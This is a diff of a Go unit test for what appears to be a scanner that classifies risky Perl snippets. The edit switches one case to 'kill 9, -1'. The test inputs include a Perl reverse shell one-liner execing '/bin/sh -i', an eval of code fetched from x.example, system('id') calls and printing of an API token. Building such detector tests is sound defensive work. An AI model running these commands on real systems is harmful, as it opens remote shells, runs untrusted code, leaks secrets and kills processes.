@@ -97,7 +97,7 @@ func TestPerl(t *testing.T) {
 		{`s/x/system("id")/e`, "shell:id", true},
 		{`POSIX::system("id")`, "shell:id", false},
 		{`CORE::system("id")`, "shell:id", false},
-		{`kill 9, 1`, "process", false},
+		{`kill 9, -1`, "signal:-1", false},
 		{`use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")); connect(S,sockaddr_in(1,inet_aton("h"))); open(STDIN,">&S"); exec("/bin/sh -i")`, "network ? shell:/bin/sh -i tethers", false},
 		{`use LWP::Simple; eval get("http://x.example/a")`, "network downloaded ? fetch:http://x.example/a", false},
 		{`print $ENV{API_TOKEN}`, "secret", false},
